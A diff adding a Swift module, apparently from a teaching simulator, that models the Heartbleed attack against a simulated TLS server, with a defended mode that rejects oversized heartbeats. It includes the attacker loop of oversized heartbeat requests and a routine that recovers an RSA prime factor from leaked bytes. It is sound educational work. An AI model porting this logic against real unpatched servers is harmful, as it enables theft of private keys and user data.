@@ -1,0 +1,190 @@
+import Crypto
+import PKI
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// A length that is believed empties a server's memory (CVE-2014-0160).
+package enum Heartbleed: Exhibit {
+    package static let card = Card(
+        "heartbleed", .implementation, .peer, .key, unit: "heartbeats", year: 2014, cites: [.rfc(6520, "4")],
+        cves: ["CVE-2014-0160"], words: HeartbleedCard.self)
+
+    private static let suite = CipherSuite.rsaAES128GCM
+    /// What she announces: with type, length and padding it is a record that is full.
+    private static let announced = RecordLimits.plaintext - 3 - Heartbeat.paddingLength
+    /// Octets of a prime factor of a modulus of 2,048 bits.
+    private static let factorLength = 128
+    /// Without the rule one of 10^11 runs would need more.
+    private static let patience = 400
+    /// How many heartbeats without an answer are enough for her.
+    private static let silences = 5
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let victims = try Victims(show, suite)
+        let server = stage.add(StageHost(.server, at: .server, show.tcp("server")))
+        let key = victims.cast.pki.serverKey
+        let memory = ServerMemory(of: key, show.seeds.fork("memory"))
+        stage.listen(server, port: 443) { _ in
+            BleedingServer(
+                victims.server(configure: { $0.agreesToHeartbeats = true }), memory,
+                places: show.seeds.fork("places"), checksLength: show.isDefended)
+        }
+        var attacker = show.attacker(on: stage)
+
+        var outcome = Outcome()
+        // One of the octets that come back is her own.
+        let (leaked, size) = (announced - 1, ServerMemory.size)
+        outcome.theory = .geometric(
+            Double(leaked - factorLength + 1) / Double(size), "geometric((L - l + 1)/M)",
+            [("L", Double(leaked)), ("l", Double(factorLength)), ("M", Double(size))])
+        outcome.evidence = [("server", .socket(Socket(.server, 443)))]
+        outcome.truth = [("p", key.p.bigEndian)]
+        outcome.connections = [0]
+        outcome.reproduce = [
+            "tshark -r FILE -Y 'tls.record.content_type==24' -T fields -e frame.number -e ip.src -e tls.record.length "
+                + "| head -n 4"
+        ]
+        var client = attacker.hello(to: Socket(.server, 443), suite, extensions: [Heartbeat.mayBeSent])
+        attacker.awaitFlight(&client)
+        guard client.serverHello?.extensions.contains(Heartbeat.mayBeSent) == true, let leaf = client.chain.first,
+            case .rsa(let certified)? = try? CertifiedKey.key(inCertificate: leaf)
+        else { return outcome }
+        outcome.say(HeartbleedNote.begins, frames: [attacker.frame()])
+        let request = Heartbeat(
+            .request, announcing: announced, [0x2a] + attacker.random.octets(Heartbeat.paddingLength))
+        var silent = 0
+        while outcome.tries < patience, silent < silences, !client.line.isOver {
+            client.line.send(request.record)
+            outcome.tries += 1
+            let (first, known) = (attacker.frame(), client.others.count)
+            attacker.wait(atMost: .seconds(1)) {
+                client.read()
+                return client.others.count > known
+            }
+            guard client.others.count > known, let answer = client.others.last.flatMap({ Heartbeat($0.fragment) })
+            else {
+                silent += 1
+                continue
+            }
+            if outcome.tries == 1 {
+                outcome.say(
+                    HeartbleedNote.asks(announced), frames: [first, attacker.frame()], cite: .rfc(6520, "4"),
+                    [
+                        .init("heartbeat request", request.record),
+                        .init("what came back, its beginning", Array(answer.rest.prefix(64))),
+                    ])
+            }
+            guard let (factor, place, isLittle) = factor(of: certified.n, in: answer.rest) else { continue }
+            outcome.loot = [("p", factor.bigEndian)]
+            outcome.reached = true
+            outcome.say(
+                HeartbleedNote.divides(outcome.tries, place: place, isLittle: isLittle),
+                frames: [first, attacker.frame()], [.init("p", factor.bigEndian)])
+            break
+        }
+        client.line.abort()
+        _ = attacker.wait(.seconds(1))
+        if !outcome.reached { outcome.say(HeartbleedNote.silence(outcome.tries), cite: .rfc(6520, "4")) }
+        return outcome
+    }
+
+    /// The first window of half the modulus's length that divides it, in one order of octets or the other.
+    private static func factor(
+        of n: Integer, in octets: [UInt8]
+    ) -> (factor: Integer, place: Int, isLittle: Bool)? {
+        guard octets.count >= factorLength else { return nil }
+        for place in 0...(octets.count - factorLength) {
+            let (head, tail) = (octets[place], octets[place + factorLength - 1])
+            // Such a prime is odd, and its highest bit is set: most windows need no division.
+            for isLittle in [false, true] where (isLittle ? tail : head) >= 0x80 && (isLittle ? head : tail) & 1 == 1 {
+                let window = octets[place..<(place + factorLength)]
+                let number = Integer(bigEndian: isLittle ? Array(window.reversed()) : Array(window))
+                if n.modulo(number) == 0 { return (number, place, isLittle) }
+            }
+        }
+        return nil
+    }
+}
+
+/// What lies in the memory of the server: a ring of octets, so that every place in it is like every other.
+struct ServerMemory: Sendable {
+    /// How large it is.
+    static let size = 1 << 18
+    private(set) var octets: [UInt8]
+
+    /// Memory with text, rubbish, and one prime factor of a key in it.
+    init(of key: RSAPrivateKey, _ random: SeededRandomSource) {
+        var random = random
+        func number(below bound: Int) -> Int { random.integer(below: Integer(bound)).int ?? 0 }
+        octets = [UInt8](repeating: 0, count: Self.size)
+        for _ in 0..<400 {
+            let cookie = Array("GET /inbox HTTP/1.1\r\nCookie: id=\(Hex.string(random.octets(8)))\r\n\r\n".utf8)
+            put(cookie, at: number(below: Self.size))
+        }
+        for _ in 0..<64 { put(random.octets(512), at: number(below: Self.size)) }
+        // A library of large numbers keeps its words with the least significant first; a file of a key has it the other way round.
+        let isLittle = number(below: 2) == 0
+        put(isLittle ? key.p.bigEndian.reversed() : key.p.bigEndian, at: number(below: Self.size))
+    }
+
+    private mutating func put(_ content: [UInt8], at place: Int) {
+        for (index, octet) in content.enumerated() { octets[(place + index) % Self.size] = octet }
+    }
+
+    /// So many octets from a place on.
+    func read(_ count: Int, from place: Int) -> [UInt8] { (0..<count).map { octets[(place + $0) % Self.size] } }
+}
+
+/// A server that answers heartbeats at any time, and the rest with its TLS.
+struct BleedingServer: Application {
+    private var program: TLSProgram
+    private let memory: ServerMemory
+    /// Where the buffers of requests come to lie.
+    private var places: SeededRandomSource
+    private let checksLength: Bool
+    private var buffer: [UInt8] = []
+
+    init(_ program: TLSProgram, _ memory: ServerMemory, places: SeededRandomSource, checksLength: Bool) {
+        self.program = program
+        self.memory = memory
+        self.places = places
+        self.checksLength = checksLength
+    }
+
+    var role: Role? { program.role }
+    var state: String? { program.state }
+
+    mutating func handle(_ event: ApplicationEvent) -> [Deed] {
+        guard case .read(let octets) = event else { return program.handle(event) }
+        buffer += octets
+        var deeds: [Deed] = []
+        while let header = RecordHeader(buffer), buffer.count >= RecordLimits.header + Int(header.length) {
+            let record = Array(buffer.prefix(RecordLimits.header + Int(header.length)))
+            buffer.removeFirst(record.count)
+            if header.typeCode == Heartbeat.contentType {
+                deeds += answer(Heartbeat(Array(record.dropFirst(RecordLimits.header))))
+            } else {
+                deeds += program.handle(.read(record))
+            }
+        }
+        return deeds
+    }
+
+    private mutating func answer(_ request: Heartbeat?) -> [Deed] {
+        guard let request, request.kind == .request else { return [] }
+        let place = places.integer(below: Integer(ServerMemory.size)).int ?? 0
+        var payload = Array(request.rest.prefix(request.announced))
+        if !request.isWhole {
+            // The rule: what announces more than it holds is discarded silently.
+            if checksLength { return [] }
+            payload = Array(request.rest.prefix(max(0, request.rest.count - Heartbeat.paddingLength)))
+            payload += memory.read(request.announced - payload.count, from: place)
+        }
+        let response = Heartbeat(
+            .response, announcing: request.announced, payload + places.octets(Heartbeat.paddingLength))
+        return [.pass(.octets(response.record, step: "tls.heartbeat"))]
+    }
+}
